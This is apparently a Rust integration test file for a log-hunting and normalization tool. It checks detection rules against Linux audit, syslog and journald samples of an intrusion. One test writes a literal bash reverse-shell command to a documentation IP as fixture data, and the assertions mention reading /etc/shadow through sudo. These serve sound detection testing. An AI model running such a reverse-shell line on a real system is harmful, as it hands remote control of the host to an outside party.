//! Linux sources end to end: the bundled audit, syslog and journald samples hunted with the
//! bundled rules and SigmaHQ's Linux rules, investigated into one incident, and normalized to
//! OCSF by `garrison normalize` (with `--from` and archives).

mod common;

use common::*;
use std::collections::BTreeMap;
use std::io::Write;

fn samples() -> String {
    workspace()
        .join("samples/linux")
        .to_string_lossy()
        .into_owned()
}

#[test]
fn bundled_rules_find_the_intrusion_in_every_linux_source() {
    let output = garrison(&["hunt", &samples()]);
    assert!(output.status.success(), "{output:?}");
    let lines = stdout_lines(&output);
    let titles = titles(&lines);
    for (title, count) in [
        (
            "SSH Password Logon After a Brute Force from the Same Source",
            1,
        ),
        // sudo seen in auth.log and in the journal.
        ("Password Hashes Read Through sudo", 2),
        (
            "Tool Downloaded into a Temporary Folder and Made Executable (Linux)",
            1,
        ),
        // useradd's own message and the audited command line.
        ("Linux Account Created or Changed with User ID 0", 2),
        (
            "Shell Redirected to a Network Socket (Linux Reverse Shell)",
            1,
        ),
        // cron in auth.log and over RFC 5424.
        ("Cron Job Runs a Program from a Temporary Folder", 2),
    ] {
        assert_eq!(titles.get(title), Some(&count), "{title}: {titles:?}");
    }
    assert_eq!(lines.len(), 9, "{titles:?}");
    // Hosts come from the syslog header, journald's _HOSTNAME and auditd's node.
    assert!(lines.iter().all(|line| line["computer"] == "web01"));
    let reverse_shell = lines
        .iter()
        .find(|line| {
            line["rule"]["title"]
                .as_str()
                .unwrap()
                .contains("Reverse Shell")
        })
        .unwrap();
    assert_eq!(
        reverse_shell["source"]["path"]
            .as_str()
            .unwrap()
            .rsplit('/')
            .next(),
        Some("web01-audit.log")
    );
    let summary = String::from_utf8_lossy(&output.stderr);
    assert!(summary.contains("quarantined records: 1"), "{summary}");
    assert!(
        summary.contains("audit log line 38 quarantined"),
        "{summary}"
    );
}

#[test]
fn sigmahq_linux_rules_run_on_audit_and_syslog() {
    let Some(data) = shared_data() else { return };
    let rules = data.join("sigma/rules/linux");
    let output = garrison(&[
        "hunt",
        "--no-bundled",
        "--rules",
        rules.to_str().unwrap(),
        &samples(),
    ]);
    assert!(output.status.success(), "{output:?}");
    let titles = titles(&stdout_lines(&output));
    for title in [
        "Suspicious Reverse Shell Command Line",
        "Creation Of An User Account",
        "Curl Usage on Linux",
        "System Information Discovery - Auditd",
    ] {
        assert!(titles.contains_key(title), "{title}: {titles:?}");
    }
    let summary = String::from_utf8_lossy(&output.stderr);
    // Every Linux rule has a source now: the Sysmon-for-Linux categories (file_event,
    // network_connection) read Sysmon for Linux.
    assert!(summary.contains(" 0 failed"), "{summary}");
}

#[test]
fn investigate_tells_one_story_on_the_linux_host() {
    let state = tempfile::tempdir().unwrap();
    let output = garrison(&[
        "investigate",
        "-q",
        "--state",
        state.path().to_str().unwrap(),
        &samples(),
    ]);
    assert!(output.status.success(), "{output:?}");
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let incidents = report["incidents"].as_array().unwrap();
    assert_eq!(incidents.len(), 1, "{report:#}");
    let incident = &incidents[0];
    assert!(
        incident["title"]
            .as_str()
            .unwrap()
            .ends_with("on web01 (deploy)"),
        "{}",
        incident["title"]
    );
    let tactics: Vec<&str> = incident["tactics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t.as_str().unwrap())
        .collect();
    for tactic in [
        "initial-access",
        "credential-access",
        "persistence",
        "execution",
    ] {
        assert!(tactics.contains(&tactic), "{tactics:?}");
    }
    let entities = incident["entities"].to_string();
    assert!(entities.contains("203.0.113.50"), "{entities}");
    assert!(entities.contains("sysupdate"), "{entities}");
    assert_eq!(incident["verification"]["status"], "verified");
}

#[test]
fn normalize_writes_every_record_or_counts_it() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("ocsf.jsonl");
    let quarantine = dir.path().join("quarantine.jsonl");
    let output = garrison(&[
        "normalize",
        "--output",
        out.to_str().unwrap(),
        "--quarantine",
        quarantine.to_str().unwrap(),
        &samples(),
    ]);
    assert!(output.status.success(), "{output:?}");
    let text = std::fs::read_to_string(&out).unwrap();
    let records: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    // 19 auth.log lines + 9 audit events (32 records) + 3 journal entries + 4 RFC 5424
    // messages; the audit log's first event spans the first read of the file, so this also
    // holds an event's records together across reads.
    assert_eq!(records.len(), 35);
    let mut classes: BTreeMap<u64, usize> = BTreeMap::new();
    for record in &records {
        *classes
            .entry(record["class_uid"].as_u64().unwrap())
            .or_default() += 1;
        assert!(
            record["metadata"]["uid"]
                .as_str()
                .unwrap()
                .contains("samples/linux/")
        );
        assert_eq!(record["device"]["hostname"], "web01", "{record}");
    }
    assert_eq!(classes.get(&1007), Some(&5), "{classes:?}");
    assert!(
        classes.get(&3002).copied().unwrap_or(0) >= 20,
        "{classes:?}"
    );
    assert_eq!(classes.get(&3001), Some(&3), "{classes:?}");
    let sudo = records
        .iter()
        .find(|r| {
            r["activity_name"] == "Account Switch" && r["metadata"]["log_format"] == "journald"
        })
        .unwrap();
    assert_eq!(sudo["user"]["name"], "root");
    assert_eq!(sudo["actor"]["user"]["name"], "deploy");
    assert_eq!(sudo["unmapped"]["command"], "/usr/bin/cat /etc/shadow");
    let summary = String::from_utf8_lossy(&output.stderr);
    assert!(
        summary.contains("records: 36 read")
            && summary.contains("35 events written, 1 quarantined"),
        "{summary}"
    );
    assert!(summary.contains("diagnostics: auditd 1"), "{summary}");
    let quarantined = std::fs::read_to_string(&quarantine).unwrap();
    assert_eq!(quarantined.lines().count(), 1);
    assert!(quarantined.contains("not an audit record"));
}

#[test]
fn from_reads_unrecognised_files_and_archive_members_as_named() {
    let dir = tempfile::tempdir().unwrap();
    // A syslog file whose first line no sniffer recognises, gzipped.
    let lines = "garbage first line\n<38>Mar  1 10:00:00 db1 sshd[7]: Failed password for root from 198.51.100.9 port 4242 ssh2\n";
    let path = dir.path().join("messages.gz");
    let mut encoder =
        flate2::write::GzEncoder::new(std::fs::File::create(&path).unwrap(), Default::default());
    encoder.write_all(lines.as_bytes()).unwrap();
    encoder.finish().unwrap();
    let path = path.to_str().unwrap();
    let sniffed = garrison(&["normalize", path]);
    assert!(
        String::from_utf8_lossy(&sniffed.stderr).contains("1 skipped as not event data"),
        "{sniffed:?}"
    );
    let forced = garrison(&["normalize", "--from", "syslog", path]);
    assert!(forced.status.success(), "{forced:?}");
    let records = stdout_lines(&forced);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["class_uid"], 3002);
    assert_eq!(records[0]["status"], "Failure");
    assert_eq!(records[0]["src_endpoint"]["ip"], "198.51.100.9");
    assert!(
        records[0]["metadata"]["uid"]
            .as_str()
            .unwrap()
            .ends_with("#2@19")
    );
    let summary = String::from_utf8_lossy(&forced.stderr);
    assert!(summary.contains("diagnostics: syslog 1"), "{summary}");
    let unknown = garrison(&["normalize", "--from", "cef", path]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("unknown format \"cef\""));
}

#[test]
fn linux_rules_read_only_linux_records() {
    // The same fields as an audited reverse shell, but in a plain JSON record: Linux
    // `process_creation` rules read audit events only, so nothing fires on it. Written as an
    // audit record, it fires.
    let dir = tempfile::tempdir().unwrap();
    let json = dir.path().join("other.jsonl");
    std::fs::write(
        &json,
        r#"{"time":"2024-03-14T10:00:00Z","type":"EXECVE","a0":"bash","CommandLine":"bash -i >& /dev/tcp/198.51.100.23/443 0>&1"}"#,
    )
    .unwrap();
    let output = garrison(&["hunt", json.to_str().unwrap()]);
    assert!(output.status.success(), "{output:?}");
    assert!(stdout_lines(&output).is_empty(), "{output:?}");
    let audit = dir.path().join("audit.log");
    std::fs::write(
        &audit,
        "type=SYSCALL msg=audit(1710410400.000:1): syscall=59 exe=\"/usr/bin/bash\" pid=5 ppid=1 uid=0\n\
         type=EXECVE msg=audit(1710410400.000:1): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/198.51.100.23/443 0>&1\"\n",
    )
    .unwrap();
    let output = garrison(&["hunt", audit.to_str().unwrap()]);
    let titles = titles(&stdout_lines(&output));
    assert_eq!(
        titles.get("Shell Redirected to a Network Socket (Linux Reverse Shell)"),
        Some(&1),
        "{titles:?}"
    );
}
